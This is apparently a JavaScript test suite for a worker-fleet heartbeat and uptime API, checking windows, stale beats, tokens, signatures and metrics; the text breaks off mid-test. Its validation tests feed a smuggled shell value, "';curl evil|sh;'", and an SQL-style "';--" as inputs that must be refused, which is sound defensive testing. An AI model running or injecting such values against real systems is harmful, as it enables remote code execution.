// Machines and their beats: who may beat, how a beat changes the window, the
// sweep of silent machines, and the resulting uptime.

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import test, { after } from "node:test";
import { setImmediate } from "node:timers/promises";
import { startStackAuth } from "./fakes/stack-auth.js";
import { fleet, newAddress, pointers, send } from "./support/fleet.js";
import { pages, problem, rowCounts, startWorker } from "./support/harness.js";
import { ADMIN_TOKEN, malleated, misspelled, newStellarWallet, newWallet, people, production } from "./support/people.js";

const stack = await startStackAuth();
after(() => stack.close());
// The mirror in KV is written at once.
const worker = await startWorker({ ...production(stack), HEARTBEAT_MIRROR_SECONDS: "0" });
const { sql, url } = worker;
const { signIn, mint, newKey, challenge, findNoSecret, secret } = people(worker, stack);
const { call, ok, as, row } = fleet(worker);

const MINUTE_MS = 60_000;
const GAP_MS = 30 * MINUTE_MS;
const iso = (ms) => new Date(ms).toISOString();
const sha256 = (text) => createHash("sha256").update(text).digest("hex");

/** A machine whose wallet's user is signed in, registered: `wallet` (in lower case), `token`, `session`, `beat(ms, more)`. */
async function newMachine() {
  const session = await signIn();
  const { walletAddress, token } = await ok(201, "POST", "/workers", {}, session.token);
  secret(token);
  const body = (ms, more) => ({ walletAddress, timestamp: iso(ms), containers: [], ...more });
  const beat = (ms, more) => ok(200, "POST", "/heartbeat", body(ms, more), token);
  return { wallet: walletAddress, token, session: session.token, signer: session.wallet, beat, body };
}

const window = (wallet) => row("SELECT start_at, end_at FROM worker_windows WHERE wallet = ?", wallet);
const records = (wallet) => sql("SELECT time_from, time_to FROM worker_uptime_records WHERE wallet = ? ORDER BY time_from", wallet);
const sweep = () => worker.worker.scheduled({ cron: "* * * * *" });

/** All rows that beats write. */
const uptimeRows = async () => [await sql("SELECT * FROM worker_windows ORDER BY wallet"), await sql("SELECT * FROM worker_uptime_records ORDER BY wallet, time_from")];

/** A beat that is refused, and changes nothing. */
async function refused(status, code, body, token, headers) {
  const before = await uptimeRows();
  const told = await problem(await call("POST", "/heartbeat", body, token, headers), status, code);
  assert.deepEqual(await uptimeRows(), before);
  return told;
}

/** A container as the routes show it. */
const shownContainer = (kept) => ({ cpuPercent: 0, memUsageMb: 0, ...kept, name: kept.containerName });

/** The headers of a machine without a token: its wallet's signature over this body or another one. */
const signed = (wallet, body, over = body) => {
  const { walletAddress, timestamp } = JSON.parse(over);
  return { "x-wallet-signature": wallet.sign(`hatch-heartbeat\n${walletAddress.toLowerCase()}\n${timestamp}\n${sha256(over)}`) };
};

test("A beat at most 30:00.000 after the end extends the window, one at 30:00.001 begins another", async () => {
  const start = Date.now() - 10 * 60 * MINUTE_MS;
  for (const [gap, extends_] of [[GAP_MS - 1, true], [GAP_MS, true], [GAP_MS + 1, false]]) {
    const { wallet, beat } = await newMachine();
    assert.deepEqual((await beat(start)).window, { startTime: iso(start), endTime: iso(start) });
    await beat(start + MINUTE_MS);
    const at = start + MINUTE_MS + gap;
    const { success, window: told, stale, nextBeatSeconds } = await beat(at);
    assert.deepEqual([success, stale, nextBeatSeconds], [true, undefined, 300]);
    assert.deepEqual(told, { startTime: iso(extends_ ? start : at), endTime: iso(at) }, `${gap} ms`);
    assert.deepEqual(await records(wallet), extends_ ? [] : [{ time_from: start, time_to: start + MINUTE_MS }]);
  }
});

test("A beat that is not newer than the window's end is stale, and changes nothing", async () => {
  const { wallet, beat } = await newMachine();
  const at = Date.now() - 2 * 60 * MINUTE_MS;
  await beat(at, { containers: [{ containerName: "kept", port: "1" }] });
  await beat(at + 5 * MINUTE_MS, { containers: [{ containerName: "kept", port: "1" }] });
  const before = await row("SELECT * FROM worker_windows WHERE wallet = ?", wallet);
  for (const late of [at + 5 * MINUTE_MS, at + 5 * MINUTE_MS - 1, at, at - GAP_MS, at - 40 * GAP_MS]) {
    const told = await beat(late, { containers: [{ containerName: "lost" }] });
    assert.deepEqual([told.success, told.stale, told.window], [true, true, { startTime: iso(at), endTime: iso(at + 5 * MINUTE_MS) }]);
    assert.deepEqual(await row("SELECT * FROM worker_windows WHERE wallet = ?", wallet), before, iso(late));
  }
  assert.deepEqual(await records(wallet), []);
});

test("Of twenty parallel beats each counts, in any order", async () => {
  const { wallet, beat } = await newMachine();
  const start = Date.now() - 20 * 60 * MINUTE_MS;
  // Beats of one row, and then some that each begin a window.
  const times = Array.from({ length: 20 }, (_, n) => start + (n < 10 ? n * MINUTE_MS : 9 * MINUTE_MS + (n - 9) * (GAP_MS + 1)));
  await Promise.all(times.toSorted((a, b) => (a % 7) - (b % 7)).map((at) => beat(at)));
  const { start_at, end_at } = await window(wallet);
  assert.equal(end_at, times.at(-1));
  // Late beats are stale: windows may be fewer and begin later, but never overlap or exceed the beats.
  const all = [...(await records(wallet)), { time_from: start_at, time_to: end_at }];
  for (const { time_from, time_to } of all) assert.ok(times.includes(time_from) && times.includes(time_to) && time_from <= time_to);
  all.slice(1).forEach(({ time_from }, n) => assert.ok(time_from - all[n].time_to > GAP_MS));

  const twin = await newMachine();
  const at = Date.now();
  const told = await Promise.all(Array.from({ length: 20 }, () => twin.beat(at)));
  assert.equal(told.filter(({ stale }) => !stale).length, 1);
});

test("A clock may be five minutes ahead", async () => {
  const { wallet, beat, body, token } = await newMachine();
  await refused(422, "timestamp_ahead", body(Date.now() + 5 * MINUTE_MS + 10_000), token);
  await refused(422, "timestamp_ahead", body(Date.now() + 365 * 24 * 60 * MINUTE_MS), token);
  await beat(Date.now() + 5 * MINUTE_MS - 10_000);
  assert.equal((await window(wallet)).start_at, (await window(wallet)).end_at);
  // The next beats, from a corrected clock, are stale until then.
  assert.equal((await beat(Date.now())).stale, true);
});

test("A clock that is ahead gains no uptime: uptime never exceeds the time by our clock", async () => {
  const { wallet, session, beat } = await newMachine();
  const began = Date.now();
  const ahead = began + 5 * MINUTE_MS - 1_000;
  await beat(began);
  const { window: told } = await beat(ahead);
  const passed = Date.now() - began;
  assert.equal(told.startTime, iso(began));
  assert.ok(Date.parse(told.endTime) - began <= passed, told.endTime);
  const seconds = async () => Number((await call("GET", `/workers/${wallet}/uptime`, undefined, session)).headers.get("x-uptime-seconds"));
  assert.ok((await seconds()) <= Math.ceil(passed / 1000));
  // Sent again, many times in parallel, it is stale, and so are earlier ones.
  for (const at of [ahead, Date.now(), began - 10 * MINUTE_MS]) assert.equal((await beat(at)).stale, true);
  const [interval] = await ok(200, "GET", `/workers/${wallet}/uptime`, undefined, session);
  assert.ok(interval.durationSeconds >= 0 && Date.parse(interval.timeTo) <= Date.now());
  const { status, lastSeen } = await ok(200, "GET", `/workers/${wallet}/status`, undefined, session);
  assert.ok(status === "HEALTHY" && Date.parse(lastSeen) <= Date.now(), `${status} ${lastSeen}`);

  const twin = await newMachine();
  const at = Date.now() + 4 * MINUTE_MS;
  const copies = await Promise.all(Array.from({ length: 20 }, () => twin.beat(at)));
  assert.equal(copies.filter(({ stale }) => !stale).length, 1);
});

test("A beat may be a day late and no later, so that a machine cannot invent uptime of the past", async () => {
  const { wallet, beat, body, token } = await newMachine();
  const day = 24 * 60 * MINUTE_MS;
  for (const late of [Date.now() - day - 10_000, Date.now() - 365 * day, 0]) await refused(422, "timestamp_too_late", body(late), token);
  const at = Date.now() - day + 10_000;
  await beat(at);
  await beat(at + 10 * MINUTE_MS);
  assert.deepEqual(await window(wallet), { start_at: at, end_at: at + 10 * MINUTE_MS });
  // Refused whether or not it would have been stale.
  await refused(422, "timestamp_too_late", body(at - MINUTE_MS), token);
});

test("A wallet is the same in upper case, and an invalid wallet is refused", async () => {
  const { wallet, token, body } = await newMachine();
  const upper = `0x${wallet.slice(2).toUpperCase()}`;
  await ok(200, "POST", "/heartbeat", body(Date.now(), { walletAddress: upper }), token);
  assert.ok(await window(wallet));
  for (const bad of ["';curl evil|sh;'", "", "0x", wallet.slice(2), `${wallet}0`, `0x${"g".repeat(40)}`, ` ${wallet}`, `${wallet}\n`, 1, null, [wallet]]) {
    assert.deepEqual(pointers(await refused(400, undefined, body(Date.now(), { walletAddress: bad }), token)), ["/walletAddress"]);
  }
  for (const path of ["", "/status", "/uptime", "/containers", "/metrics"]) {
    await problem(await call("GET", `/workers/${encodeURIComponent("';curl evil|sh;'")}${path}`, undefined, ADMIN_TOKEN), 400);
    assert.equal((await call("GET", `/workers/${upper}${path}`, undefined, ADMIN_TOKEN)).status, 200);
  }
});

test("A body that is malformed is refused, every field by its name", async () => {
  const { token, body } = await newMachine();
  const now = Date.now();
  const broken = await refused(400, undefined, { timestamp: "now", containers: {}, system: [], hostname: "" }, token);
  assert.deepEqual(pointers(broken), ["/walletAddress", "/timestamp", "/containers", "/system", "/hostname"]);
  for (const timestamp of [now, "", "2026-13-01T00:00:00Z", "2026-01-01", "1969-12-31T23:59:59Z", null]) {
    assert.deepEqual(pointers(await refused(400, undefined, body(now, { timestamp }), token)), ["/timestamp"]);
  }
  for (const containers of [undefined, null, "[]", [1], [{}], [{ containerName: "" }], [{ containerName: "x".repeat(256) }], [{ name: "x", port: [] }],
    [{ name: "x", port: 65_536 }], [{ name: "x", cpuPercent: "1" }], Array(501).fill({ name: "x" })]) {
    assert.deepEqual(pointers(await refused(400, undefined, body(now, { containers }), token)), ["/containers"]);
  }
  assert.deepEqual(pointers(await refused(400, undefined, body(now, { system: { a: "x".repeat(5000) } }), token)), ["/system"]);
  for (const text of ["", "{", "[]", "null", '"x"', "{}}", '{"a":"\\u0000"}', "\u0001", "[".repeat(100_000)]) await refused(400, undefined, text, token);
  await refused(415, undefined, JSON.stringify(body(now)), token, { "content-type": "text/plain" });
});

test("A megabyte of containers is accepted or refused as a whole", async () => {
  const { wallet, token, body, beat, session } = await newMachine();
  const many = (n, length) => Array.from({ length: n }, (_, i) => ({ containerName: `${i}-`.padEnd(length, "x"), port: "8080" }));
  await refused(400, "validation_failed", body(Date.now(), { containers: many(3_900, 220) }), token);
  await refused(413, undefined, body(Date.now(), { containers: many(4_500, 220) }), token);
  // Other fields of a container are not stored.
  await beat(Date.now(), { containers: many(500, 255).map((each) => ({ ...each, labels: "x".repeat(1_600) })) });
  assert.deepEqual(await ok(200, "GET", `/workers/${wallet}/containers`, undefined, session), many(500, 255).map(shownContainer));
});

test("In production a beat needs the machine's own token", async () => {
  const mine = await newMachine();
  const other = await newMachine();
  const beat = mine.body(Date.now());
  await refused(401, "unauthorized", beat);
  await refused(403, "not_your_machine", beat, other.token);
  const forged = `${mine.token.slice(0, 10)}${mine.token[10] === "A" ? "B" : "A"}${mine.token.slice(11)}`;
  for (const token of [forged, mine.token.slice(0, -1), "wk_", "wk_x", "x", "';--", mine.token.toUpperCase()]) await refused(401, "unauthorized", beat, token);
  // Users and the operator cannot send beats with their own credentials.
  for (const token of [mine.session, ADMIN_TOKEN, (await newKey(mine.session, { scopes: ["fleet:heartbeat"] })).key]) await refused(401, "unauthorized", beat, token);
  // A machine's token opens no other route.
  for (const path of ["/workers", `/workers/${mine.wallet}`, "/deployments", "/payments", "/auth/me", "/api/projects"]) {
    await problem(await call("GET", path, undefined, mine.token), 403);
  }
  await ok(200, "POST", "/heartbeat", beat, mine.token);
});

test("A replaced or revoked token stops working at once", async () => {
  const { wallet, token, session, body } = await newMachine();
  const { token: next } = await ok(201, "POST", "/workers", {}, session);
  secret(next);
  await refused(401, "unauthorized", body(Date.now()), token);
  await ok(200, "POST", "/heartbeat", body(Date.now()), next);
  const stranger = await signIn();
  await problem(await call("DELETE", `/workers/${wallet}`, undefined, stranger.token), 404);
  await ok(200, "POST", "/heartbeat", body(Date.now()), next);
  assert.equal((await call("DELETE", `/workers/${wallet}`, undefined, session)).status, 204);
  await refused(401, "unauthorized", body(Date.now()), next);
  // Recorded windows stay.
  assert.equal((await ok(200, "GET", `/workers/${wallet}/status`, undefined, session)).status, "HEALTHY");
});

test("A wallet's signature works like its token, but only for this beat of this machine", async () => {
  const wallet = newWallet();
  const [address, now] = [wallet.address.toLowerCase(), Date.now()];
  const text = (ms, more) => JSON.stringify({ walletAddress: wallet.address, timestamp: iso(ms), containers: [], ...more });
  const first = text(now - 2 * MINUTE_MS);
  await ok(200, "POST", "/heartbeat", first, undefined, signed(wallet, first));
  assert.equal((await window(address)).end_at, now - 2 * MINUTE_MS);

  const next = text(now);
  const good = signed(wallet, next)["x-wallet-signature"];
  for (const signature of [good.slice(0, -2), `${good}00`, "", "0x", "x", malleated(good), `0x${"0".repeat(130)}`, newWallet().sign(next)]) {
    await refused(401, "unauthorized", next, undefined, { "x-wallet-signature": signature });
  }
  await refused(401, "unauthorized", next, undefined, signed(newWallet(), next));
  await refused(401, "unauthorized", next, undefined, signed(wallet, next, first));
  await refused(401, "unauthorized", next, undefined, signed(wallet, next, text(now, { hostname: "other" })));
  await refused(401, "unauthorized", `${next} `, undefined, signed(wallet, next));
  // Without a valid signature the beat's mistakes are not reported; with one all of them are.
  const wrong = JSON.stringify({ walletAddress: wallet.address, timestamp: "now", containers: {} });
  await refused(401, "unauthorized", wrong, undefined, signed(wallet, next));
  await refused(401, "unauthorized", JSON.stringify({ timestamp: iso(now) }), undefined, signed(wallet, next));
  assert.deepEqual(pointers(await refused(400, "validation_failed", wrong, undefined, signed(wallet, wrong))), ["/timestamp", "/containers"]);
  await ok(200, "POST", "/heartbeat", next, undefined, signed(wallet, next));
  // A replay is stale and changes nothing.
  const before = await uptimeRows();
  assert.equal((await ok(200, "POST", "/heartbeat", next, undefined, signed(wallet, next))).stale, true);
  assert.equal((await ok(200, "POST", "/heartbeat", first, undefined, signed(wallet, first))).stale, true);
  assert.deepEqual(await uptimeRows(), before);

  // A machine that never registered also belongs to its wallet's user.
  const { token } = await signIn(wallet);
  assert.equal((await ok(200, "GET", `/workers/${address}`, undefined, token)).exists, true);
  assert.deepEqual((await ok(200, "GET", "/workers", undefined, token)).map(({ walletAddress }) => walletAddress), [address]);
});

test("A machine is registered by its wallet's signature or by its user, and its token is shown once", async () => {
  const wallet = newWallet();
  const { message } = await challenge(wallet);
  const proof = { message, signature: secret(wallet.sign(message)) };
  const registered = await call("POST", "/workers", proof);
  assert.equal(registered.status, 201);
  assert.equal(registered.headers.get("location"), `/workers/${wallet.address.toLowerCase()}`);
  assert.equal(registered.headers.get("cache-control"), "no-store");
  const { walletAddress, token } = await registered.json();
  assert.match(secret(token), /^wk_[0-9A-Za-z]{49}$/);
  assert.equal(walletAddress, wallet.address.toLowerCase());
  await problem(await call("POST", "/workers", proof), 401);
  await ok(200, "POST", "/heartbeat", { walletAddress, timestamp: iso(Date.now()), containers: [] }, token);

  const session = await signIn(wallet);
  const [shown] = await ok(200, "GET", "/workers", undefined, session.token);
  assert.equal(shown.tokenHint, `wk_…${token.slice(-4)}`);
  const before = await rowCounts(worker);
  const { key } = await newKey(session.token, { scopes: ["deploy", "account"] });
  await problem(await call("POST", "/workers", {}, key), 403, "insufficient_scope");
  await problem(await call("POST", "/workers", {}), 401);
  await problem(await call("POST", "/workers", {}, mint({})), 409, "no_wallet");
  await problem(await call("POST", "/workers", { walletAddress: newAddress() }, token), 401);
  const after = await rowCounts(worker);
  assert.equal(after.workers, before.workers);
  await findNoSecret();
});

test("The plan's keys follow in KV, two operations a beat and one a ping", async () => {
  const { wallet, token, beat } = await newMachine();
  const kept = async (key, wanted) => {
    for (;;) {
      const { value, metadata } = await (await worker.worker.getEnv()).WORKER_HEARTBEATS.getWithMetadata(key, "json");
      if (value && wanted(value)) return { value, metadata };
      await setImmediate();
    }
  };
  const start = Date.now() - 10 * MINUTE_MS;
  await beat(start, { containers: [{ containerName: "web", port: 80 }, { name: "db", cpuPercent: 1.5, memUsageMb: 20 }] });
  const first = await kept(`${wallet}:time`, () => true);
  assert.deepEqual(first, { value: { startTime: iso(start), endTime: iso(start) }, metadata: { s: start, e: start } });
  const containers = await kept(`${wallet}:containers`, () => true);
  assert.deepEqual(containers.value, [{ containerName: "web", port: "80" }, { containerName: "db", cpuPercent: 1.5, memUsageMb: 20 }]);

  const end = start + 5 * MINUTE_MS;
  await ok(200, "POST", "/heartbeat/ping", { walletAddress: wallet, timestamp: iso(end) }, token);
  const second = await kept(`${wallet}:time`, ({ endTime }) => endTime === iso(end));
  assert.deepEqual(second, { value: { startTime: iso(start), endTime: iso(end) }, metadata: { s: start, e: end } });
  assert.deepEqual(await ok(200, "GET", `/workers/${wallet}/containers`, undefined, ADMIN_TOKEN), containers.value.map(shownContainer));
  const { keys } = await (await worker.worker.getEnv()).WORKER_HEARTBEATS.list({ prefix: wallet });
  assert.deepEqual(keys.map(({ name }) => name), [`${wallet}:containers`, `${wallet}:time`]);
});

test("A machine's last state is shown to its user and to no one else", async () => {
  const { wallet, session, beat } = await newMachine();
  const fresh = await ok(200, "GET", `/workers/${wallet}`, undefined, session);
  assert.deepEqual([fresh.exists, fresh.isActive, fresh.status, fresh.lastSeen, fresh.window], [true, false, "UNKNOWN", null, null]);
  assert.deepEqual(await ok(200, "GET", `/workers/${wallet}/containers`, undefined, session), []);
  const at = Date.now() - MINUTE_MS;
  await beat(at, { hostname: "rack-1", system: { cpus: 4, load1: 0.5 } });
  const seen = await ok(200, "GET", `/workers/${wallet}`, undefined, session);
  assert.deepEqual([seen.isActive, seen.status, seen.hostname, seen.system, seen.window], [true, "HEALTHY", "rack-1", { cpus: 4, load1: 0.5 }, { startTime: iso(at), endTime: iso(at) }]);
  // A beat without containers leaves them unchanged.
  await beat(Date.now());
  assert.equal((await ok(200, "GET", `/workers/${wallet}`, undefined, session)).hostname, "rack-1");

  for (const [minutes, status, isActive] of [[14, "HEALTHY", true], [16, "WARNING", true], [29, "WARNING", true], [31, "DEAD", false]]) {
    await sql("UPDATE worker_windows SET seen_at = ? WHERE wallet = ?", Date.now() - minutes * MINUTE_MS, wallet);
    assert.equal((await ok(200, "GET", `/workers/${wallet}/status`, undefined, session)).status, status);
    const [listed] = await ok(200, "GET", "/workers", undefined, session);
    assert.deepEqual([listed.walletAddress, listed.status], [wallet, status]);
    assert.equal((await ok(200, "GET", `/workers/${wallet}`, undefined, session)).isActive, isActive);
  }

  const stranger = await signIn();
  assert.deepEqual(await ok(200, "GET", `/workers/${wallet}`, undefined, stranger.token), { exists: false });
  assert.equal((await ok(200, "GET", `/workers/${wallet}/status`, undefined, stranger.token)).status, "UNKNOWN");
  await problem(await call("GET", `/workers/${wallet}/uptime`, undefined, stranger.token), 404);
  for (const path of ["/containers", "/metrics"]) assert.deepEqual(await ok(200, "GET", `/workers/${wallet}${path}`, undefined, stranger.token), []);
  assert.deepEqual(await ok(200, "GET", "/workers", undefined, stranger.token), []);
  for (const path of ["", "/status", "/uptime", "/containers", "/metrics"]) await problem(await call("GET", `/workers/${wallet}${path}`), 401);
});

test("A ping and a full beat of one second count once, and the beat's containers are stored, in either order", async () => {
  const said = { containers: [{ name: "web", cpuPercent: 1.5, memUsageMb: 20 }], system: { cpuCores: 4, ramTotalGb: 8 }, hostname: "rack-1", tailscaleIp: "100.64.0.7" };
  const known = async (wallet, session) => {
    const { hostname, tailscaleIp, cpuCores, ramTotalGb, window: shown } = await ok(200, "GET", `/workers/${wallet}`, undefined, session);
    const containers = await ok(200, "GET", `/workers/${wallet}/containers`, undefined, session);
    return { hostname, tailscaleIp, cpuCores, ramTotalGb, window: shown, names: containers.map(({ name }) => name) };
  };
  for (const isPingFirst of [true, false]) {
    const { wallet, token, session, beat } = await newMachine();
    const ping = (ms) => ok(200, "POST", "/heartbeat/ping", { walletAddress: wallet, timestamp: iso(ms) }, token);
    const start = Math.floor(Date.now() / 1000) * 1000 - 10 * MINUTE_MS;
    await ping(start);
    const at = start + MINUTE_MS;
    const [first, second] = isPingFirst ? [ping, (ms) => beat(ms, said)] : [(ms) => beat(ms, said), ping];
    await first(at);
    const seen = await row("SELECT seen_at, time_mirrored_at FROM worker_windows WHERE wallet = ?", wallet);
    const told = await second(at);
    assert.deepEqual([told.stale, told.window], [isPingFirst ? undefined : true, { startTime: iso(start), endTime: iso(at) }]);
    const expected = { hostname: "rack-1", tailscaleIp: "100.64.0.7", cpuCores: 4, ramTotalGb: 8, window: { startTime: iso(start), endTime: iso(at) }, names: ["web"] };
    assert.deepEqual(await known(wallet, session), expected);
    // It is no later sign of life: otherwise replays could keep a dead machine alive for hours.
    assert.deepEqual(await row("SELECT seen_at, time_mirrored_at FROM worker_windows WHERE wallet = ?", wallet), seen);

    // Another beat of that second, and an older one, change nothing.
    const before = await row("SELECT * FROM worker_windows WHERE wallet = ?", wallet);
    for (const ms of [at, at - 1000, start]) assert.equal((await beat(ms, { containers: [{ name: "old" }], hostname: "old", system: {} })).stale, true);
    assert.deepEqual(await row("SELECT * FROM worker_windows WHERE wallet = ?", wallet), before);
    assert.deepEqual(await records(wallet), []);
  }
});

test("Of twenty parallel full beats in the ping's second exactly one is stored, as a whole", async () => {
  const { wallet, token, session, beat } = await newMachine();
  const at = Date.now() - MINUTE_MS;
  await ok(200, "POST", "/heartbeat/ping", { walletAddress: wallet, timestamp: iso(at) }, token);
  const told = await Promise.all(Array.from({ length: 20 }, (_, n) => beat(at, { containers: [{ name: `c${n}` }], hostname: `h${n}`, system: { cpuCores: n } })));
  const taken = told.flatMap(({ stale }, n) => (stale ? [] : [n]));
  assert.equal(taken.length, 1);
  const { hostname, cpuCores, window: shown } = await ok(200, "GET", `/workers/${wallet}`, undefined, session);
  assert.deepEqual([hostname, cpuCores, shown], [`h${taken[0]}`, taken[0], { startTime: iso(at), endTime: iso(at) }]);
});

test("A machine's figures are shown hourly for a day, with the newest one", async () => {
  const { wallet, session, beat, token } = await newMachine();
  const metrics = (query = "", by = session) => ok(200, "GET", `/workers/${wallet}/metrics${query}`, undefined, by);
  assert.deepEqual(await metrics(), []);
  const HOUR_MS = 60 * MINUTE_MS;
  const hour = Math.floor(Date.now() / HOUR_MS) * HOUR_MS;
  const at = (hours, minutes) => hour - hours * HOUR_MS + minutes * MINUTE_MS;
  const system = (cpu) => ({ cpuCores: 8, cpuUsagePercent: cpu, ramTotalGb: 16, ramUsedGb: cpu / 10, storageTotalGb: 100, storageUsedGb: 1 });
  const told = (ms, cpu, containerCount) => ({ timestamp: iso(ms), cpuUsagePercent: cpu, ramUsedGb: cpu / 10, ramTotalGb: 16, creditsEarned: 0, containerCount });
  for (const [minutes, cpu] of [[5, 10], [30, 20], [59, 30]]) await beat(at(3, minutes), { system: system(cpu), containers: [{ name: "a" }] });
  // A ping has no figures, in whichever hour it arrives.
  await ok(200, "POST", "/heartbeat/ping", { walletAddress: wallet, timestamp: iso(at(2, 20)) }, token);
  await beat(at(2, 40), { system: system(40), containers: [{ name: "a" }, { name: "b" }] });
  assert.equal((await row("SELECT count(*) AS n FROM worker_metrics WHERE wallet = ?", wallet)).n, 1);
  await beat(at(1, 10), { system: { cpuUsagePercent: "a lot", ramUsedGb: null, ramTotalGb: [1] } });
  const all = [told(at(3, 59), 30, 1), told(at(2, 40), 40, 2), { ...told(at(1, 10), 0, 0), ramTotalGb: 0 }];
  assert.deepEqual(await metrics(), all);
  // A value that is not a number is absent in earlier hours too.
  const last = Date.now();
  await beat(last, { system: system(50) });
  all.push(told(last, 50, 0));
  assert.deepEqual(await metrics(), all);
  assert.deepEqual(await metrics("?hours=24", ADMIN_TOKEN), all);
  assert.deepEqual(await metrics("?hours=1"), all.filter(({ timestamp }) => Date.parse(timestamp) > last - HOUR_MS));
  for (const hours of ["0", "25", "-1", "1.5", "x", ""]) await problem(await call("GET", `/workers/${wallet}/metrics?hours=${hours}`, undefined, session), 400);
  assert.deepEqual(await metrics("", (await signIn()).token), [], "of another's machine");

  // Figures older than a day are not shown, and a machine that is silent for a day is swept.
  await sql("UPDATE worker_windows SET said_at = said_at - ? WHERE wallet = ?", 24 * HOUR_MS, wallet);
  await sql("UPDATE worker_metrics SET said_at = said_at - ? WHERE wallet = ?", 24 * HOUR_MS, wallet);
  assert.deepEqual(await metrics(), []);
  await sql("UPDATE worker_windows SET said_at = said_at - ? WHERE wallet = ?", MINUTE_MS, wallet);
  await sweep();
  assert.equal((await row("SELECT count(*) AS n FROM worker_metrics WHERE wallet = ?", wallet)).n, 0);
});

test("Credits are what the ledger owes this machine", async () => {
  const { wallet, session } = await newMachine();
  const { wallet: other } = await newMachine();
  const credits = async () => (await ok(200, "GET", `/workers/${wallet}`, undefined, session)).credits;
  assert.equal(await credits(), 0);
  const pay = async (to, amount, from) => {
    await sql("INSERT INTO payments (user_id, name, amount, creator, created_at) VALUES ('operator', 'Uptime', ?, ?, 1)", amount, to);
    await sql("INSERT INTO payouts (wallet, period_from, period_to, uptime_seconds, payment_id) SELECT ?, ?, ?, 1, max(id) FROM payments", to, from, from + 1);
  };
  await pay(wallet, "1000000000000000000", 1);
  await pay(wallet, "500", 2);
  await pay(other, "7", 1);
  // A payment by someone else to that wallet does not count as owed.
  await sql("INSERT INTO payments (user_id, name, amount, creator, created_at) VALUES ('x', 'Rent', '9', ?, 1)", wallet);
  assert.equal(await credits(), 1e18 + 500);
  await pay(wallet, (2n ** 256n - 1n).toString(), 3);
  assert.equal(await credits(), 2 ** 256);
});

test("A Stellar key works as a machine's wallet in paths, beats, tokens and signatures, in its own case", async () => {
  const wallet = newStellarWallet();
  const { address } = wallet;
  const beat = JSON.stringify({ walletAddress: address, timestamp: iso(Date.now()), containers: [] });
  const signature = (over, by = wallet) => ({ "x-wallet-signature": secret(by.sign(`hatch-heartbeat\n${address}\n${JSON.parse(over).timestamp}\n${sha256(over)}`)) });
  await refused(401, "unauthorized", beat, undefined, signature(beat, newStellarWallet()));
  await refused(401, "unauthorized", beat, undefined, signature(beat, newWallet()));
  await refused(401, "unauthorized", `${beat} `, undefined, signature(beat));
  await ok(200, "POST", "/heartbeat", beat, undefined, signature(beat));

  const { message } = await challenge(wallet);
  const { walletAddress, token } = await ok(201, "POST", "/workers", { message, signature: secret(wallet.sign(message)) });
  assert.equal(walletAddress, address);
  await ok(200, "POST", "/heartbeat/ping", { walletAddress: address, timestamp: iso(Date.now()) }, secret(token));
  const { token: session } = await signIn(wallet);
  assert.deepEqual((await ok(200, "GET", "/workers", undefined, session)).map((each) => each.walletAddress), [address]);
  assert.equal((await ok(200, "GET", `/workers/${address}`, undefined, session)).walletAddress, address);
  assert.equal((await ok(200, "GET", `/workers/${address}/uptime`, undefined, session)).length, 1);

  for (const bad of misspelled(address)) {
    for (const path of ["", "/status", "/uptime", "/containers", "/metrics"]) await problem(await call("GET", `/workers/${bad}${path}`, undefined, session), 400);
    await problem(await call("DELETE", `/workers/${bad}`, undefined, session), 400);
    assert.deepEqual(pointers(await refused(400, undefined, { ...JSON.parse(beat), walletAddress: bad }, token)), ["/walletAddress"]);
  }
  assert.equal((await call("DELETE", `/workers/${address}`, undefined, session)).status, 204);
});

test("The operator has the list of all machines, page by page", async () => {
  const listed = [];
  for await (const page of pages(as(ADMIN_TOKEN), "/workers?limit=4")) {
    assert.ok(page.length <= 4);
    listed.push(...page.map(({ walletAddress }) => walletAddress));
  }
  assert.deepEqual(listed, (await sql("SELECT wallet FROM workers ORDER BY wallet")).map(({ wallet }) => wallet));
});

test("Beats and machines answer under /api/v1 too", async () => {
  const { wallet, token, session, body } = await newMachine();
  const v1 = async (method, path, sent, by) => {
    const response = await send(url, method, `/api/v1${path}`, sent, { authorization: `Bearer ${by}` });
    assert.ok(response.ok, `${path} ${response.status}`);
    return response.json();
  };
  assert.equal((await v1("POST", "/heartbeat", body(Date.now() - 1000), token)).success, true);
  assert.equal((await v1("POST", "/heartbeat/ping", { walletAddress: wallet, timestamp: iso(Date.now()) }, token)).success, true);
  assert.equal((await v1("GET", `/workers/${wallet}`, undefined, session)).exists, true);
  assert.equal((await v1("GET", `/workers/${wallet}/uptime`, undefined, session)).length, 1);
  assert.deepEqual(await v1("GET", `/workers/${wallet}/containers`, undefined, session), []);
});

test("Uptime has the records and the open window, newest first, by period and by page, each moment once", async () => {
  const { wallet, session, beat } = await newMachine();
  const start = Date.now() - 20 * 60 * MINUTE_MS;
  // Four windows of 10 minutes each, an hour apart.
  for (let n = 0; n < 4; n++) for (const minute of [0, 5, 10]) await beat(start + (n * 60 + minute) * MINUTE_MS);
  const uptime = async (query = "") => {
    const response = await call("GET", `/workers/${wallet}/uptime${query}`, undefined, session);
    const list = await response.json();
    assert.equal(response.status, 200, JSON.stringify(list));
    return { list, seconds: Number(response.headers.get("x-uptime-seconds")), link: response.headers.get("link") };
  };
  const interval = (from, to, open = false) => ({ timeFrom: iso(start + from * MINUTE_MS), timeTo: iso(start + to * MINUTE_MS), durationSeconds: (to - from) * 60, open });
  const all = [interval(180, 190, true), interval(120, 130), interval(60, 70), interval(0, 10)];
  assert.deepEqual(await uptime(), { list: all, seconds: 2400, link: null });
  // Recorded by the sweep, the window still counts once, and is open no longer.
  await sweep();
  assert.equal((await records(wallet)).length, 4);
  all[0].open = false;
  assert.deepEqual(await uptime(), { list: all, seconds: 2400, link: null });

  const listed = [];
  for await (const page of pages(as(session), `/workers/${wallet}/uptime?limit=3`)) listed.push(...page);
  assert.deepEqual(listed, all);
  const period = (from, to) => uptime(`?from=${iso(start + from * MINUTE_MS)}&to=${iso(start + to * MINUTE_MS)}`);
  assert.deepEqual(await period(65, 185), { list: [interval(180, 185), interval(120, 130), interval(65, 70)], seconds: 1200, link: null });
  assert.deepEqual(await period(20, 50), { list: [], seconds: 0, link: null });
  assert.deepEqual(await period(2, 3), { list: [interval(2, 3)], seconds: 60, link: null });
  const clipped = [];
  for await (const page of pages(as(session), `/workers/${wallet}/uptime?limit=1&from=${iso(start + 65 * MINUTE_MS)}`)) clipped.push(...page);
  assert.deepEqual(clipped, [interval(180, 190), interval(120, 130), interval(65, 70)]);
  for (const query of ["from=yesterday", "to=1", "from=1969-01-01T00:00:00Z", "from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z", "limit=0"]) {
